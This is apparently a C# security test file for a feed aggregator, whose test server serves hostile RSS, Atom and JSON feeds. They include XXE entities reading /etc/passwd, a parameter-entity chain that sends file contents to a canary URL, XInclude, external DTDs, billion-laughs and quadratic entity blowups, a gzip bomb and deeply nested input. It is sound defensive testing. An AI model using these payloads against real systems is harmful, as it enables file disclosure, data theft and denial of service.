using System.IO.Compression;
using System.Text;

namespace FeedAggregator.Tests.Security;

/// <summary>The hostile documents the publisher serves, by feed id.</summary>
public sealed partial class XmlAttackPipelineTests
{
    private async Task Serve(HttpContext http, string name)
    {
        var canary = Canary;
        var response = http.Response;
        switch (name)
        {
            case "oversize":
                response.ContentType = "application/rss+xml";
                await response.WriteAsync(Rss("Oversize", $"<item><title>Huge</title><description>{new string('x', (int)MaxBodyBytes * 2)}</description></item>"));
                return;
            case "gzip-bomb":
                // 64 MiB of spaces inside an RSS document: some 64 KiB on the wire, far past the limit once inflated.
                response.ContentType = "application/rss+xml";
                response.Headers.ContentEncoding = "gzip";
                using (var buffer = new MemoryStream())
                {
                    await using (var gzip = new GZipStream(buffer, CompressionLevel.SmallestSize, leaveOpen: true))
                    {
                        await gzip.WriteAsync(Encoding.UTF8.GetBytes(Rss("Bomb", "<item><title>Bomb</title><description>")));
                        var spaces = new byte[1024 * 1024];
                        Array.Fill(spaces, (byte)' ');
                        for (var i = 0; i < 64; i++)
                        {
                            await gzip.WriteAsync(spaces);
                        }
                    }

                    await response.Body.WriteAsync(buffer.ToArray());
                }

                return;
            case "deep-json":
                response.ContentType = "application/feed+json";
                await response.WriteAsync($$"""
                    { "version": "https://jsonfeed.org/version/1.1", "title": "Deep", "items": [
                      { "id": "deep", "title": "Deep JSON", "content_text": "x", "_x": {{new string('[', 100_000)}}{{new string(']', 100_000)}} } ] }
                    """);
                return;
            default:
                response.ContentType = name == "atom-xxe" ? "application/atom+xml" : "application/rss+xml";
                await response.WriteAsync(Document(name, canary));
                return;
        }
    }

    private static string Document(string name, string canary) => name switch
    {
        "xxe-file" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            {Rss("XXE probe &xxe;", Item("xxe-file", "XXE probe file &xxe;", "<description>Leaked: &xxe;</description><category>&xxe;</category>"))}
            """,
        "xxe-canary" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY xxe SYSTEM "{canary}xxe-entity">]>
            {Rss("XXE probe", Item("xxe-canary", "XXE probe canary &xxe;", "<description>Fetched: &xxe;</description>"))}
            """,
        "xxe-parameter" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!ENTITY % remote SYSTEM "{canary}parameter-entity">
              %remote;
              <!ENTITY % file SYSTEM "file:///etc/passwd">
              <!ENTITY % wrap "<!ENTITY send SYSTEM '{canary}exfiltrate?%file;'>">
              %wrap;
            ]>
            {Rss("XXE probe", Item("xxe-parameter", "XXE probe parameter &send;", "<description>Sent: &send;</description>"))}
            """,
        "external-dtd" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss SYSTEM "{canary}external.dtd">
            {Rss("XXE probe", Item("external-dtd", "XXE probe external DTD &ext;", "<description>From the DTD: &ext;</description>"))}
            """,
        "public-dtd" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss PUBLIC "-//Example//DTD Hostile RSS//EN" "{canary}public.dtd">
            {Rss("XXE probe", Item("public-dtd", "XXE probe public DTD &ext;", "<description>From the DTD: &ext;</description>"))}
            """,
        "atom-xxe" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "{canary}atom-entity">]>
            <feed xmlns="http://www.w3.org/2005/Atom"><id>urn:x-test:atom-xxe</id><title>XXE probe &xxe;</title><updated>{Updated}</updated>
              <entry><id>urn:x-test:atom-xxe-1</id><title type="text">XXE probe atom &xxe;</title><updated>{Updated}</updated>
                <link href="https://example.org/atom-xxe"/><summary type="html">&remote;</summary>
                <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>&xxe;</p><p>&remote;</p></div></content></entry>
            </feed>
            """,
        "xinclude" => Rss("XXE probe", Item("xinclude", "XXE probe XInclude",
            $"""<description xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><xi:include href="{canary}xinclude" parse="text"/></description>""")),
        "stylesheet" => $"""
            <?xml version="1.0"?>
            <?xml-stylesheet type="text/xsl" href="{canary}style.xsl"?>
            {Rss("XXE probe", Item("stylesheet", "XXE probe style sheet", "<description>Styled</description>"))}
            """,
        "laughs" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!ENTITY lol "lol">
              {string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? "" : (i - 1).ToString(System.Globalization.CultureInfo.InvariantCulture))};", 10))}\">"))}
            ]>
            {Rss("Laughs", Item("laughs-1", "&lol9;", "<description>&lol9;</description>") + Item("laughs-2", "Ordinary headline after the laughs", ""))}
            """,
        "quadratic" => $"""
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY a "{new string('a', 50_000)}">]>
            {Rss("Quadratic", Item("quadratic-1", "Blow-up", $"<description>{string.Concat(Enumerable.Repeat("&a;", 2_000))}</description>") + Item("quadratic-2", "Ordinary headline after the blow-up", ""))}
            """,
        // 80,000 nested divs as escaped HTML: some 900 KB, read by the XML reader as one text, then by the HTML parser.
        "deep-html" => Rss("Deep", Item("deep-html", "Deep HTML", $"<description>{string.Concat(Enumerable.Repeat("&lt;div&gt;", 80_000))}deep text</description>")),
        // The same, as raw XML elements inside the description: the XML reader collects them as markup.
        "deep-xml" => Rss("Deep", Item("deep-xml", "Deep XML", $"<description>{string.Concat(Enumerable.Repeat("<div>", 80_000))}deep text{string.Concat(Enumerable.Repeat("</div>", 80_000))}</description>")),
        "steady" => Rss("Steady", Item("steady-1", "Calm day at the river", "") + Item("steady-2", "Calm night at the river", "")),
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, null),
    };

    private static string Rss(string title, string items) =>
        $"""<rss version="2.0"><channel><title>{title}</title><link>https://example.org/</link><description>Attack</description>{items}</channel></rss>""";

    private static string Item(string id, string title, string more) =>
        $"""<item><guid isPermaLink="false">{id}</guid><title>{title}</title><link>https://example.org/{id}</link><pubDate>{Published}</pubDate>{more}</item>""";
}
